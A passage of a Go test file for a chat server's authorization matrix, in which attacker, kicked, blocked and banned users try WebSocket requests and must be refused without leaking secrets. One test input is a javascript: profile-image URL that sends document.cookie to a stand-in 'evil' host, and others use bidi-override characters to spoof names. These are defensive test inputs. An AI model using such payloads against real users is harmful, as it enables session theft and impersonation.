package server_test

import (
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"parley/protocol"
	"parley/server"
)

// The authorization matrix: every WebSocket request type and every HTTP
// route, tried without a token, with an expired one, a revoked one, and as
// the wrong user, a non-member, a removed (kicked) member and a blocked
// user where that applies. Each must answer the right code, and no answer
// may leak message text, member lists or whether a private group exists.

// Secrets the attackers must never see.
const (
	secretDM       = "s3cret-dm-between-alice-and-bob"
	secretGroup    = "s3cret-group-plan"
	secretAfter    = "s3cret-after-carl-left"
	privateGroupNm = "Private Plans"
)

type authzWorld struct {
	e                  *env
	group              string // the private group's ID
	dm                 string // alice and bob's conversation
	tokens             map[string]string
	expired, revoked   string // mallory's bad tokens
	forbidden          []string
	forbiddenForGroups []string
	call               string // a call ringing from alice to bob
}

func newAuthzWorld(t *testing.T) *authzWorld {
	clock := &atomicTime{}
	now := time.Now()
	clock.set(now.Add(-8 * 24 * time.Hour))
	e := newEnv(t, func(c *server.Config) {
		c.Clock = clock.get
		// The matrix opens a connection per row and credential; the
		// handshake limits have tests of their own.
		c.HandshakeRatePerUser, c.HandshakeBurstPerUser = 1000, 1000
		c.HandshakeRatePerIP, c.HandshakeBurstPerIP = 1000, 1000
	})
	w := &authzWorld{e: e, tokens: map[string]string{}}
	for _, u := range []string{"alice", "bob", "carl", "mallory", "dave", "erin", "frank"} {
		st, body := e.post("/api/v1/admin/users", adminSecret, protocol.AdminCreateUserReq{UserID: u})
		if st != http.StatusCreated {
			t.Fatalf("create %s: %d %s", u, st, body)
		}
	}
	// A token minted eight days ago has expired (TokenTTL is 7 days).
	w.expired = e.token("mallory")
	clock.set(now)
	for _, u := range []string{"alice", "bob", "carl", "mallory", "dave", "erin", "frank"} {
		w.tokens[u] = e.token(u)
	}
	w.revoked = e.token("mallory")
	if st, body := e.post("/api/v1/auth/logout", w.revoked, nil); st != http.StatusNoContent {
		t.Fatalf("logout: %d %s", st, body)
	}

	st, body := e.post("/api/v1/admin/groups", adminSecret, server.AdminCreateGroupReq{
		OwnerUserID: "alice", Name: privateGroupNm, MemberUserIDs: []string{"bob", "carl"}})
	if st != http.StatusCreated {
		t.Fatalf("group: %d %s", st, body)
	}
	var g protocol.Group
	json.Unmarshal(body, &g)
	w.group = g.GroupID
	w.dm = protocol.SingleConversationID("alice", "bob")

	alice := e.dial(w.tokens["alice"])
	alice.sendText("dm1", "bob", "", secretDM)
	alice.sendText("g1", "", w.group, secretGroup)
	// bob asks alice to be friends (pending), alice blocks dave, and
	// removes carl from the group; then the group talks on.
	e.dial(w.tokens["bob"]).do(protocol.ReqAddFriend, protocol.AddFriendReq{UserID: "alice", Message: "hi alice"}, nil)
	alice.do(protocol.ReqBlockUser, protocol.UserIDReq{UserID: "dave"}, nil)
	alice.do(protocol.ReqKickGroupMember, protocol.GroupMemberReq{GroupID: w.group, UserID: "carl"}, nil)
	alice.sendText("g2", "", w.group, secretAfter)
	// erin blocks alice (alice cannot invite her); frank is banned.
	e.dial(w.tokens["erin"]).do(protocol.ReqBlockUser, protocol.UserIDReq{UserID: "alice"}, nil)
	if st, body := e.post("/api/v1/admin/groups/ban", adminSecret, server.AdminGroupBanReq{GroupID: w.group, UserID: "frank", Banned: true}); st != http.StatusNoContent {
		t.Fatalf("ban: %d %s", st, body)
	}
	var call protocol.Call
	alice.do(protocol.ReqCallStart, protocol.CallStartReq{ConversationID: w.dm, Media: protocol.CallAudio}, &call)
	w.call = call.CallID

	w.forbidden = []string{secretDM, secretGroup, secretAfter, privateGroupNm, "hi alice"}
	// Group answers to outsiders must not list members either.
	w.forbiddenForGroups = append(slices.Clone(w.forbidden), `"alice"`, `"bob"`, `"carl"`, "alice,", "bob,")
	return w
}

// wsCase is one request by one user.
type wsCase struct {
	name string
	as   string // user
	typ  string
	data any
	// want is the error code, or "" for success.
	want protocol.Code
	// groupy answers must not name the group's members.
	groupy bool
	// check inspects a successful answer.
	check func(t *testing.T, w *authzWorld, data json.RawMessage)
	// mayRead are the secrets this caller may read in a successful answer
	// (a removed member's messages from before their removal).
	mayRead []string
}

// noneOf fails when the answer mentions any of the forbidden strings.
func noneOf(t *testing.T, what string, answer []byte, forbidden []string) {
	t.Helper()
	for _, f := range forbidden {
		if strings.Contains(string(answer), f) {
			t.Errorf("%s leaks %q: %s", what, f, answer)
		}
	}
}

func TestAuthorizationMatrix(t *testing.T) {
	w := newAuthzWorld(t)
	e := w.e
	sg := protocol.GroupConversationID(w.group)
	ghost := "gnosuchgroup"
	sgGhost := protocol.GroupConversationID(ghost)
	text := func(s string) json.RawMessage { return text(s) }
	sendTo := func(recv, group string) protocol.SendReq {
		return protocol.SendReq{ClientMsgID: "x-" + recv + group, RecvID: recv, GroupID: group, ContentType: protocol.ContentText, Content: text("attack")}
	}
	pullOf := func(conv string) protocol.PullReq {
		return protocol.PullReq{Ranges: []protocol.SeqRange{{ConversationID: conv, FromSeq: 1, Limit: 50}}}
	}
	// ownOnly checks that a list answer holds nothing of others'.
	ownOnly := func(t *testing.T, w *authzWorld, data json.RawMessage) {
		t.Helper()
		noneOf(t, "answer", data, w.forbidden)
		if strings.Contains(string(data), w.group) || strings.Contains(string(data), w.dm) {
			t.Errorf("answer names the private group: %s", data)
		}
	}
	noNewSecrets := func(t *testing.T, w *authzWorld, data json.RawMessage) {
		t.Helper()
		noneOf(t, "answer", data, []string{secretAfter, secretDM})
	}
	profileOnly := func(t *testing.T, w *authzWorld, data json.RawMessage) {
		t.Helper()
		var raw map[string]any
		json.Unmarshal(data, &raw)
		users, _ := raw["users"].([]any)
		if users == nil {
			users = []any{raw}
		}
		for _, u := range users {
			for k := range u.(map[string]any) {
				if k != "userID" && k != "username" && k != "nickname" && k != "faceURL" && k != "ex" {
					t.Errorf("profile carries %q: %s", k, data)
				}
			}
		}
	}

	newName, badPolicy := "renamed", "everyone"
	cases := []wsCase{
		{name: "ping", as: "mallory", typ: protocol.ReqPing},

		{name: "send to a group as non-member", as: "mallory", typ: protocol.ReqSend, data: sendTo("", w.group), want: protocol.CodePermissionDenied, groupy: true},
		{name: "send to a missing group", as: "mallory", typ: protocol.ReqSend, data: sendTo("", ghost), want: protocol.CodePermissionDenied, groupy: true},
		{name: "send to a group as kicked member", as: "carl", typ: protocol.ReqSend, data: sendTo("", w.group), want: protocol.CodePermissionDenied, groupy: true},
		{name: "send one-to-one as blocked user", as: "dave", typ: protocol.ReqSend, data: sendTo("alice", ""), want: protocol.CodePermissionDenied},
		{name: "send one-to-one as stranger (allowed by default), forging the sender", as: "mallory", typ: protocol.ReqSend,
			data: map[string]any{"clientMsgID": "forged", "recvID": "bob", "sendID": "alice", "contentType": "text", "content": map[string]string{"text": "from alice, honest"}}},
		{name: "send reusing one's clientMsgID for another recipient", as: "mallory", typ: protocol.ReqSend,
			data: map[string]any{"clientMsgID": "forged", "recvID": "alice", "contentType": "text", "content": map[string]string{"text": "to alice now"}}, want: protocol.CodeAlreadyExists},
		{name: "send reusing alice's clientMsgID is the caller's own message", as: "mallory", typ: protocol.ReqSend,
			data: map[string]any{"clientMsgID": "dm1", "recvID": "bob", "contentType": "text", "content": map[string]string{"text": "mine"}},
			check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
				var r protocol.SendResp
				json.Unmarshal(d, &r)
				if r.Duplicate || r.ConversationID != protocol.SingleConversationID("bob", "mallory") {
					t.Errorf("answered with another's message: %s", d)
				}
			}},

		{name: "sync as wrong user", as: "mallory", typ: protocol.ReqSync, data: protocol.SyncReq{}, check: ownOnly},
		{name: "sync as kicked member", as: "carl", typ: protocol.ReqSync, data: protocol.SyncReq{}, check: noNewSecrets},

		{name: "pull others' one-to-one", as: "mallory", typ: protocol.ReqPull, data: pullOf(w.dm), want: protocol.CodePermissionDenied},
		{name: "pull a group as non-member", as: "mallory", typ: protocol.ReqPull, data: pullOf(sg), want: protocol.CodePermissionDenied, groupy: true},
		{name: "pull a missing group", as: "mallory", typ: protocol.ReqPull, data: pullOf(sgGhost), want: protocol.CodePermissionDenied, groupy: true},
		// A removed member reads the group up to their removal, its
		// notification included (seq 2), and not one beyond.
		{name: "pull a group as kicked member, up to the removal", as: "carl", typ: protocol.ReqPull, data: pullOf(sg), mayRead: []string{secretGroup},
			check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
				wantSeqs(t, d, []int64{1, 2}, protocol.NotificationMemberRemoved)
			}},
		{name: "pull a group as kicked member, the latest", as: "carl", typ: protocol.ReqPull, mayRead: []string{secretGroup},
			data: protocol.PullReq{Ranges: []protocol.SeqRange{{ConversationID: sg, FromSeq: 1, Limit: 1, Latest: true}}},
			check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
				wantSeqs(t, d, []int64{2}, protocol.NotificationMemberRemoved)
			}},
		{name: "pull a group as kicked member, past the removal", as: "carl", typ: protocol.ReqPull,
			data:  protocol.PullReq{Ranges: []protocol.SeqRange{{ConversationID: sg, FromSeq: 3, ToSeq: 10, Limit: 50}}},
			check: func(t *testing.T, w *authzWorld, d json.RawMessage) { wantSeqs(t, d, nil, "") }},
		{name: "pull a group as kicked member, a range across the removal", as: "carl", typ: protocol.ReqPull, mayRead: []string{secretGroup},
			data: protocol.PullReq{Ranges: []protocol.SeqRange{{ConversationID: sg, FromSeq: 2, ToSeq: 3, Limit: 50}}},
			check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
				wantSeqs(t, d, []int64{2}, protocol.NotificationMemberRemoved)
			}},

		{name: "markRead others' one-to-one", as: "mallory", typ: protocol.ReqMarkRead, data: protocol.MarkReadReq{ConversationID: w.dm}, want: protocol.CodePermissionDenied},
		{name: "markRead a group as non-member", as: "mallory", typ: protocol.ReqMarkRead, data: protocol.MarkReadReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "markRead a missing group", as: "mallory", typ: protocol.ReqMarkRead, data: protocol.MarkReadReq{ConversationID: sgGhost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "markRead a group as kicked member", as: "carl", typ: protocol.ReqMarkRead, data: protocol.MarkReadReq{ConversationID: sg}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "setPinned others' one-to-one", as: "mallory", typ: protocol.ReqSetPinned, data: protocol.SetPinnedReq{ConversationID: w.dm, IsPinned: true}, want: protocol.CodePermissionDenied},
		{name: "setPinned a group as non-member", as: "mallory", typ: protocol.ReqSetPinned, data: protocol.SetPinnedReq{ConversationID: sg, IsPinned: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "setPinned a missing group", as: "mallory", typ: protocol.ReqSetPinned, data: protocol.SetPinnedReq{ConversationID: sgGhost, IsPinned: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "setPinned a group as kicked member", as: "carl", typ: protocol.ReqSetPinned, data: protocol.SetPinnedReq{ConversationID: sg, IsPinned: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "setDraft others' one-to-one", as: "mallory", typ: protocol.ReqSetDraft, data: protocol.SetDraftReq{ConversationID: w.dm, DraftText: "x"}, want: protocol.CodePermissionDenied},
		{name: "setDraft a group as non-member", as: "mallory", typ: protocol.ReqSetDraft, data: protocol.SetDraftReq{ConversationID: sg, DraftText: "x"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "setDraft a missing group", as: "mallory", typ: protocol.ReqSetDraft, data: protocol.SetDraftReq{ConversationID: sgGhost, DraftText: "x"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "setDraft a group as kicked member", as: "carl", typ: protocol.ReqSetDraft, data: protocol.SetDraftReq{ConversationID: sg, DraftText: "x"}, want: protocol.CodePermissionDenied, groupy: true},

		{name: "getSelf is the caller", as: "mallory", typ: protocol.ReqGetSelf, check: func(t *testing.T, _ *authzWorld, d json.RawMessage) {
			if !strings.Contains(string(d), `"userID":"mallory"`) {
				t.Errorf("getSelf answered %s", d)
			}
			profileOnly(t, nil, d)
		}},
		{name: "user.get shows public profiles only", as: "mallory", typ: protocol.ReqGetUsers, data: protocol.GetUsersReq{UserIDs: []string{"alice", "bob"}}, check: profileOnly},
		{name: "user.setSelf changes only the caller", as: "mallory", typ: protocol.ReqSetSelf, data: map[string]string{"userID": "alice", "nickname": "Mal"}, check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
			if !strings.Contains(string(d), `"userID":"mallory"`) {
				t.Errorf("setSelf answered %s", d)
			}
		}},
		{name: "user.setSelf posing as alice with a bidi override", as: "mallory", typ: protocol.ReqSetSelf, data: map[string]string{"nickname": "\u202Eecila"}, want: protocol.CodeInvalidArgument},
		{name: "user.setSelf with a script for a face", as: "mallory", typ: protocol.ReqSetSelf, data: map[string]string{"faceURL": "javascript:fetch('//evil/'+document.cookie)"}, want: protocol.CodeInvalidArgument},
		{name: "user.find shows a public profile only", as: "mallory", typ: protocol.ReqFindUser, data: protocol.FindUserReq{Username: "nobody-here"}, want: protocol.CodeNotFound},

		{name: "friend.add as blocked user", as: "dave", typ: protocol.ReqAddFriend, data: protocol.AddFriendReq{UserID: "alice"}, want: protocol.CodePermissionDenied},
		{name: "friend.accept someone else's request", as: "mallory", typ: protocol.ReqAcceptFriend, data: protocol.UserIDReq{UserID: "bob"}, want: protocol.CodeNotFound},
		{name: "friend.refuse someone else's request", as: "mallory", typ: protocol.ReqRefuseFriend, data: protocol.UserIDReq{UserID: "bob"}, want: protocol.CodeNotFound},
		{name: "friend.delete of someone else's friendship", as: "mallory", typ: protocol.ReqDeleteFriend, data: protocol.UserIDReq{UserID: "alice"}, want: protocol.CodeNotFound},
		{name: "friend.setRemark for a non-friend", as: "mallory", typ: protocol.ReqSetFriendRemark, data: protocol.SetFriendRemarkReq{UserID: "alice", Remark: "x"}, want: protocol.CodeNotFound},
		{name: "friend.list is the caller's", as: "mallory", typ: protocol.ReqListFriends, check: ownOnly},
		{name: "friend.requests are the caller's", as: "mallory", typ: protocol.ReqListFriendRequests, check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
			ownOnly(t, w, d)
			if strings.Contains(string(d), `"bob"`) {
				t.Errorf("sees bob's request to alice: %s", d)
			}
		}},

		{name: "group.create by anyone", as: "mallory", typ: protocol.ReqCreateGroup, data: protocol.CreateGroupReq{Name: "mine", MemberUserIDs: []string{"dave"}}},
		{name: "group.create posing as the private group", as: "mallory", typ: protocol.ReqCreateGroup, data: protocol.CreateGroupReq{Name: "\u2066" + privateGroupNm + "\u2069", MemberUserIDs: []string{"dave"}}, want: protocol.CodeInvalidArgument},
		{name: "group.list as non-member", as: "mallory", typ: protocol.ReqListGroups, check: ownOnly},
		{name: "group.list as kicked member", as: "carl", typ: protocol.ReqListGroups, check: ownOnly},
		{name: "group.members as non-member", as: "mallory", typ: protocol.ReqGetGroupMembers, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.members of a missing group", as: "mallory", typ: protocol.ReqGetGroupMembers, data: protocol.GroupIDReq{GroupID: ghost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.info as non-member", as: "mallory", typ: protocol.ReqGetGroupInfo, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.info of a missing group", as: "mallory", typ: protocol.ReqGetGroupInfo, data: protocol.GroupIDReq{GroupID: ghost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.info as kicked member", as: "carl", typ: protocol.ReqGetGroupInfo, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.members as kicked member", as: "carl", typ: protocol.ReqGetGroupMembers, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.kick as non-member", as: "mallory", typ: protocol.ReqKickGroupMember, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "bob"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.kick in a missing group", as: "mallory", typ: protocol.ReqKickGroupMember, data: protocol.GroupMemberReq{GroupID: ghost, UserID: "bob"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.kick as kicked member", as: "carl", typ: protocol.ReqKickGroupMember, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "bob"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.kick as plain member", as: "bob", typ: protocol.ReqKickGroupMember, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "alice"}, want: protocol.CodePermissionDenied},
		{name: "group.quit as non-member", as: "mallory", typ: protocol.ReqQuitGroup, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.quit of a missing group", as: "mallory", typ: protocol.ReqQuitGroup, data: protocol.GroupIDReq{GroupID: ghost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.quit as kicked member", as: "carl", typ: protocol.ReqQuitGroup, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.quit as owner", as: "alice", typ: protocol.ReqQuitGroup, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied},
		{name: "group.setInfo as non-member", as: "mallory", typ: protocol.ReqSetGroupInfo, data: protocol.SetGroupInfoReq{GroupID: w.group, Name: &newName}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.setInfo in a missing group", as: "mallory", typ: protocol.ReqSetGroupInfo, data: protocol.SetGroupInfoReq{GroupID: ghost, Name: &newName}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.setInfo as kicked member", as: "carl", typ: protocol.ReqSetGroupInfo, data: protocol.SetGroupInfoReq{GroupID: w.group, Name: &newName}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.setRole as non-member", as: "mallory", typ: protocol.ReqSetGroupMemberRole, data: protocol.GroupMemberRoleReq{GroupID: w.group, UserID: "bob", Role: protocol.RoleAdmin}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.setRole in a missing group", as: "mallory", typ: protocol.ReqSetGroupMemberRole, data: protocol.GroupMemberRoleReq{GroupID: ghost, UserID: "bob", Role: protocol.RoleAdmin}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.setRole as kicked member", as: "carl", typ: protocol.ReqSetGroupMemberRole, data: protocol.GroupMemberRoleReq{GroupID: w.group, UserID: "bob", Role: protocol.RoleAdmin}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.transfer as non-member", as: "mallory", typ: protocol.ReqTransferGroupOwner, data: protocol.TransferGroupOwnerReq{GroupID: w.group, NewOwnerUserID: "bob"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.transfer in a missing group", as: "mallory", typ: protocol.ReqTransferGroupOwner, data: protocol.TransferGroupOwnerReq{GroupID: ghost, NewOwnerUserID: "bob"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.transfer as kicked member", as: "carl", typ: protocol.ReqTransferGroupOwner, data: protocol.TransferGroupOwnerReq{GroupID: w.group, NewOwnerUserID: "bob"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.dismiss as non-member", as: "mallory", typ: protocol.ReqDismissGroup, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.dismiss in a missing group", as: "mallory", typ: protocol.ReqDismissGroup, data: protocol.GroupIDReq{GroupID: ghost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.dismiss as kicked member", as: "carl", typ: protocol.ReqDismissGroup, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.invite as non-member", as: "mallory", typ: protocol.ReqInviteToGroup, data: protocol.GroupUsersReq{GroupID: w.group, UserIDs: []string{"mallory"}}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.invite in a missing group", as: "mallory", typ: protocol.ReqInviteToGroup, data: protocol.GroupUsersReq{GroupID: ghost, UserIDs: []string{"mallory"}}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.invite as kicked member", as: "carl", typ: protocol.ReqInviteToGroup, data: protocol.GroupUsersReq{GroupID: w.group, UserIDs: []string{"mallory"}}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.acceptApplication as non-member", as: "mallory", typ: protocol.ReqAcceptGroupApplication, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "mallory"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.acceptApplication in a missing group", as: "mallory", typ: protocol.ReqAcceptGroupApplication, data: protocol.GroupMemberReq{GroupID: ghost, UserID: "mallory"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.acceptApplication as kicked member", as: "carl", typ: protocol.ReqAcceptGroupApplication, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "mallory"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.refuseApplication as non-member", as: "mallory", typ: protocol.ReqRefuseGroupApplication, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "mallory"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.refuseApplication in a missing group", as: "mallory", typ: protocol.ReqRefuseGroupApplication, data: protocol.GroupMemberReq{GroupID: ghost, UserID: "mallory"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.refuseApplication as kicked member", as: "carl", typ: protocol.ReqRefuseGroupApplication, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "mallory"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.mute as non-member", as: "mallory", typ: protocol.ReqMuteGroup, data: protocol.MuteGroupReq{GroupID: w.group, IsMuted: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.mute in a missing group", as: "mallory", typ: protocol.ReqMuteGroup, data: protocol.MuteGroupReq{GroupID: ghost, IsMuted: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.mute as kicked member", as: "carl", typ: protocol.ReqMuteGroup, data: protocol.MuteGroupReq{GroupID: w.group, IsMuted: true}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.muteMember as non-member", as: "mallory", typ: protocol.ReqMuteGroupMember, data: protocol.MuteGroupMemberReq{GroupID: w.group, UserID: "bob", Seconds: 60}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.muteMember in a missing group", as: "mallory", typ: protocol.ReqMuteGroupMember, data: protocol.MuteGroupMemberReq{GroupID: ghost, UserID: "bob", Seconds: 60}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.muteMember as kicked member", as: "carl", typ: protocol.ReqMuteGroupMember, data: protocol.MuteGroupMemberReq{GroupID: w.group, UserID: "bob", Seconds: 60}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.setMemberNickname as non-member", as: "mallory", typ: protocol.ReqSetGroupMemberNickname, data: protocol.GroupMemberNicknameReq{GroupID: w.group, UserID: "bob", Nickname: "x"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.setMemberNickname in a missing group", as: "mallory", typ: protocol.ReqSetGroupMemberNickname, data: protocol.GroupMemberNicknameReq{GroupID: ghost, UserID: "bob", Nickname: "x"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.setMemberNickname as kicked member", as: "carl", typ: protocol.ReqSetGroupMemberNickname, data: protocol.GroupMemberNicknameReq{GroupID: w.group, UserID: "bob", Nickname: "x"}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.memberChanges as non-member", as: "mallory", typ: protocol.ReqGroupMemberChanges, data: protocol.GroupMemberChangesReq{GroupID: w.group}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.memberChanges in a missing group", as: "mallory", typ: protocol.ReqGroupMemberChanges, data: protocol.GroupMemberChangesReq{GroupID: ghost}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.memberChanges as kicked member", as: "carl", typ: protocol.ReqGroupMemberChanges, data: protocol.GroupMemberChangesReq{GroupID: w.group, Since: 1}, want: protocol.CodePermissionDenied, groupy: true},
		{name: "group.memberChanges with a bad version", as: "bob", typ: protocol.ReqGroupMemberChanges, data: protocol.GroupMemberChangesReq{GroupID: w.group, Since: -1}, want: protocol.CodeInvalidArgument},
		{name: "group.memberChanges as a plain member", as: "bob", typ: protocol.ReqGroupMemberChanges, data: protocol.GroupMemberChangesReq{GroupID: w.group, Since: 1}, check: func(t *testing.T, w *authzWorld, d json.RawMessage) {
			var r protocol.GroupMemberChangesResp
			if err := json.Unmarshal(d, &r); err != nil || r.TooOld || !slices.Contains(r.RemovedUserIDs, "carl") {
				t.Errorf("a member is told the group's member changes (carl was kicked): %s", d)
			}
		}},
		{name: "group.setInfo as plain member", as: "bob", typ: protocol.ReqSetGroupInfo, data: protocol.SetGroupInfoReq{GroupID: w.group, Name: &newName}, want: protocol.CodePermissionDenied},
		{name: "group.setRole as plain member", as: "bob", typ: protocol.ReqSetGroupMemberRole, data: protocol.GroupMemberRoleReq{GroupID: w.group, UserID: "bob", Role: protocol.RoleAdmin}, want: protocol.CodePermissionDenied},
		{name: "group.transfer as plain member", as: "bob", typ: protocol.ReqTransferGroupOwner, data: protocol.TransferGroupOwnerReq{GroupID: w.group, NewOwnerUserID: "bob"}, want: protocol.CodePermissionDenied},
		{name: "group.dismiss as plain member", as: "bob", typ: protocol.ReqDismissGroup, data: protocol.GroupIDReq{GroupID: w.group}, want: protocol.CodePermissionDenied},
		{name: "group.invite as plain member under approval", as: "bob", typ: protocol.ReqInviteToGroup, data: protocol.GroupUsersReq{GroupID: w.group, UserIDs: []string{"mallory"}}, want: protocol.CodePermissionDenied},
		{name: "group.invite of a user who blocked the inviter", as: "alice", typ: protocol.ReqInviteToGroup, data: protocol.GroupUsersReq{GroupID: w.group, UserIDs: []string{"erin"}}, want: protocol.CodePermissionDenied},
		{name: "group.invite of nobody", as: "alice", typ: protocol.ReqInviteToGroup, data: protocol.GroupUsersReq{GroupID: w.group}, want: protocol.CodeInvalidArgument},
		{name: "group.acceptApplication as plain member", as: "bob", typ: protocol.ReqAcceptGroupApplication, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "mallory"}, want: protocol.CodePermissionDenied},
		{name: "group.refuseApplication as plain member", as: "bob", typ: protocol.ReqRefuseGroupApplication, data: protocol.GroupMemberReq{GroupID: w.group, UserID: "mallory"}, want: protocol.CodePermissionDenied},
		{name: "group.mute as plain member", as: "bob", typ: protocol.ReqMuteGroup, data: protocol.MuteGroupReq{GroupID: w.group, IsMuted: true}, want: protocol.CodePermissionDenied},
		{name: "group.muteMember as plain member", as: "bob", typ: protocol.ReqMuteGroupMember, data: protocol.MuteGroupMemberReq{GroupID: w.group, UserID: "alice", Seconds: 60}, want: protocol.CodePermissionDenied},
		{name: "group.muteMember of the owner by the owner", as: "alice", typ: protocol.ReqMuteGroupMember, data: protocol.MuteGroupMemberReq{GroupID: w.group, UserID: "alice", Seconds: 60}, want: protocol.CodeInvalidArgument},
		{name: "group.muteMember for a negative time", as: "alice", typ: protocol.ReqMuteGroupMember, data: protocol.MuteGroupMemberReq{GroupID: w.group, UserID: "bob", Seconds: -1}, want: protocol.CodeInvalidArgument},
		{name: "group.setMemberNickname of the owner by a plain member", as: "bob", typ: protocol.ReqSetGroupMemberNickname, data: protocol.GroupMemberNicknameReq{GroupID: w.group, UserID: "alice", Nickname: "x"}, want: protocol.CodePermissionDenied},
		{name: "group.setMemberNickname of oneself", as: "bob", typ: protocol.ReqSetGroupMemberNickname, data: protocol.GroupMemberNicknameReq{GroupID: w.group, UserID: "bob", Nickname: "Bobby"}},
		{name: "group.setRole to owner", as: "alice", typ: protocol.ReqSetGroupMemberRole, data: protocol.GroupMemberRoleReq{GroupID: w.group, UserID: "bob", Role: protocol.RoleOwner}, want: protocol.CodeInvalidArgument},
		{name: "group.setInfo with a bad join policy", as: "alice", typ: protocol.ReqSetGroupInfo, data: protocol.SetGroupInfoReq{GroupID: w.group, JoinPolicy: &badPolicy}, want: protocol.CodeInvalidArgument},
		{name: "group.infos leaves out groups of others", as: "mallory", typ: protocol.ReqGetGroupsInfo, data: protocol.GroupIDsReq{GroupIDs: []string{w.group, ghost}}, check: ownOnly},
		{name: "group.infos of a kicked member", as: "carl", typ: protocol.ReqGetGroupsInfo, data: protocol.GroupIDsReq{GroupIDs: []string{w.group}}, check: ownOnly},
		{name: "group.join of a missing group", as: "mallory", typ: protocol.ReqJoinGroup, data: protocol.JoinGroupReq{GroupID: ghost}, want: protocol.CodeNotFound},
		{name: "group.join as a banned user", as: "frank", typ: protocol.ReqJoinGroup, data: protocol.JoinGroupReq{GroupID: w.group}, want: protocol.CodePermissionDenied},
		{name: "group.join with an overlong message", as: "mallory", typ: protocol.ReqJoinGroup, data: protocol.JoinGroupReq{GroupID: w.group, Message: strings.Repeat("x", 300)}, want: protocol.CodeInvalidArgument},
		{name: "group.join as a member", as: "bob", typ: protocol.ReqJoinGroup, data: protocol.JoinGroupReq{GroupID: w.group}, want: protocol.CodeAlreadyExists},
		{name: "group.applications are the caller's", as: "mallory", typ: protocol.ReqGroupApplications, data: nil, check: ownOnly},

		// Changes to stored messages: only who may read the conversation,
		// edits only by the sender, revokes by the sender or a moderator.
		{name: "revoke in others' one-to-one", as: "mallory", typ: protocol.ReqRevokeMessage, data: protocol.MessageRefReq{ConversationID: w.dm, ClientMsgID: "dm1"}, want: protocol.CodePermissionDenied},
		{name: "revoke the peer's message", as: "bob", typ: protocol.ReqRevokeMessage, data: protocol.MessageRefReq{ConversationID: w.dm, ClientMsgID: "dm1"}, want: protocol.CodePermissionDenied},
		{name: "revoke in a group as non-member", as: "mallory", typ: protocol.ReqRevokeMessage, data: protocol.MessageRefReq{ConversationID: sg, ClientMsgID: "g1"}, want: protocol.CodePermissionDenied, groupy: true},
